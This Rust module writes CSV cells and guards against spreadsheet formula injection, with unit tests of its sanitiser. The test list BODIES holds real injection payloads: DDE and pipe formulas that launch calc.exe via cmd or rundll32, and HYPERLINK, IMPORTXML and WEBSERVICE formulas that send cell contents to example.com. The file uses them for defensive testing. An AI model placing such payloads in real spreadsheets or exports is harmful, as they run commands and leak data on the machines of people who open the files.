//! Cells of CSV files that a spreadsheet shows and never computes.
//!
//! A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@` for a formula, quoted or not.
//! Text that does so gets an apostrophe in front, which spreadsheets know as the sign of text.
//! Figures are cells of their own kind: a negative amount stays a number.

use std::borrow::Cow;
use std::io::{self, Write};

use chrono::NaiveDate;

use crate::domain::{Amount, Currency};

/// A cell by its kind.
#[derive(Debug, Clone, Copy)]
pub enum Cell<'a> {
    /// Words, whoever wrote them.
    Text(&'a str),
    /// An amount, a number with all decimals of its currency.
    Amount(Amount, Currency),
    /// A day.
    Day(NaiveDate),
    /// Nothing.
    Empty,
}

impl<'a> Cell<'a> {
    /// The text, or nothing.
    pub fn text(text: Option<&'a str>) -> Self {
        text.map_or(Cell::Empty, Cell::Text)
    }

    /// The amount, or nothing.
    pub fn amount(amount: Option<Amount>, currency: Currency) -> Self {
        amount.map_or(Cell::Empty, |amount| Cell::Amount(amount, currency))
    }

    fn written(self) -> Cow<'a, str> {
        match self {
            Cell::Text(text) => inert(text),
            Cell::Amount(amount, currency) => amount.in_currency(currency).to_string().into(),
            Cell::Day(day) => day.to_string().into(),
            Cell::Empty => Cow::Borrowed(""),
        }
    }
}

/// A CSV file of such cells; its names of columns stand in the program.
pub struct Table<W: Write> {
    csv: csv::Writer<W>,
}

impl<W: Write> Table<W> {
    /// Begins with the names of its columns.
    pub fn new(out: W, columns: &[&str]) -> io::Result<Self> {
        let mut csv = csv::Writer::from_writer(out);
        csv.write_record(columns)?;
        Ok(Self { csv })
    }

    /// Adds a row, with as many cells as there are columns.
    pub fn row(&mut self, cells: &[Cell<'_>]) -> io::Result<()> {
        let written = cells.iter().map(|cell| cell.written());
        for cell in written {
            self.csv.write_field(cell.as_bytes())?;
        }
        Ok(self.csv.write_record(None::<&[u8]>)?)
    }

    /// Writes what is still held back.
    pub fn finish(mut self) -> io::Result<()> {
        self.csv.flush()
    }
}

/// `text` as a cell that no spreadsheet computes: as it stands, or with an apostrophe before each
/// character with which a cell could begin as a formula.
pub fn inert(text: &str) -> Cow<'_, str> {
    let at_risk = |c: char| is_trigger(c) || is_blank(c);
    if !text.contains(at_risk) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 1);
    let mut at_start = true;
    for character in text.chars() {
        let leads = matches!(character, '\t' | '\r' | '\n') && out.is_empty();
        if leads || (at_start && is_trigger(character)) {
            out.push('\'');
        }
        out.push(character);
        // Where a semicolon or a tab separates columns, the text behind one is a cell of its own.
        let separates = matches!(character, ';' | '\t' | '\r' | '\n');
        at_start = separates || (at_start && is_blank(character));
    }
    Cow::Owned(out)
}

/// What begins a formula, in its wide forms too.
fn is_trigger(character: char) -> bool {
    matches!(character, '=' | '+' | '-' | '@' | '|' | '%')
        || matches!(character, '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}' | '\u{2212}')
}

/// What a reader may take away before it looks for a formula.
fn is_blank(character: char) -> bool {
    character.is_whitespace()
        || character.is_control()
        || matches!(character, '"' | '\'' | '\u{ad}' | '\u{200b}'..='\u{200f}')
        || matches!(character, '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What people have put into cells to have it computed.
    const BODIES: [&str; 12] = [
        "1+1",
        "SUM(A1:A9)",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://example.com?x=\"&A1,\"open\")",
        "IMPORTXML(CONCAT(\"http://example.com?v=\",A1),\"//a\")",
        "WEBSERVICE(\"http://example.com\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "MSEXCEL|'\\..\\..\\calc.exe'!''",
        "rundll32|'URL.dll,OpenURL calc.exe'!A",
        "2+5+cmd|' /C calc'!A0",
        "A1",
        "",
    ];
    const LEADS: [&str; 18] = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "  +",
        "\u{feff}=",
        "\u{200b}=",
        "\u{a0}@",
        "＝",
        "＋",
        "－",
        "＠",
        "\"=",
        "|",
    ];

    #[test]
    fn no_payload_begins_a_cell() {
        let mut seen = 0;
        for (lead, body) in LEADS.iter().flat_map(|lead| BODIES.map(|body| (lead, body))) {
            for payload in [format!("{lead}{body}"), format!("Ali;{lead}{body}")] {
                let safe = inert(&payload).into_owned();
                for cell in safe.split([';', '\t', '\r', '\n']) {
                    let first =
                        cell.trim_start_matches(|c| is_blank(c) && c != '\'').chars().next();
                    assert!(!first.is_some_and(is_trigger), "{payload:?} became {safe:?}");
                }
                assert_eq!(safe.replace('\'', ""), payload.replace('\'', ""));
                seen += 1;
            }
        }
        assert!(seen >= 100, "{seen} payloads");
    }

    #[test]
    fn what_begins_with_a_control_character_gets_its_mark() {
        for (text, safe) in [
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("=1", "'=1"),
            ("-5", "'-5"),
            ("+92 300 1234567", "'+92 300 1234567"),
            ("a;=1", "a;'=1"),
            ("a\n=1", "a\n'=1"),
        ] {
            assert_eq!(inert(text), safe);
        }
    }

    #[test]
    fn other_text_stays_as_it_is() {
        for text in ["", "Ali & Sons", "a-b", "x = y", "O'Neil", "سیالکوٹ", "1,000", "a; b", "50 %"]
        {
            assert_eq!(inert(text), text);
        }
    }

    #[test]
    fn a_negative_amount_stays_a_number() {
        let usd = Currency::parse("USD").unwrap();
        let mut out = Vec::new();
        let mut table = Table::new(&mut out, &["text", "amount", "day", "none"]).unwrap();
        let day = NaiveDate::from_ymd_opt(2026, 7, 31).unwrap();
        let amount = Amount::parse("-780.36", usd).unwrap();
        table
            .row(&[Cell::Text("-780.36"), Cell::Amount(amount, usd), Cell::Day(day), Cell::Empty])
            .unwrap();
        table.row(&[Cell::Text("a,\"b\""), Cell::Empty, Cell::Empty, Cell::Empty]).unwrap();
        table.finish().unwrap();
        let text = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(
            lines,
            ["text,amount,day,none", "'-780.36,-780.36,2026-07-31,", "\"a,\"\"b\"\"\",,,"]
        );
    }
}
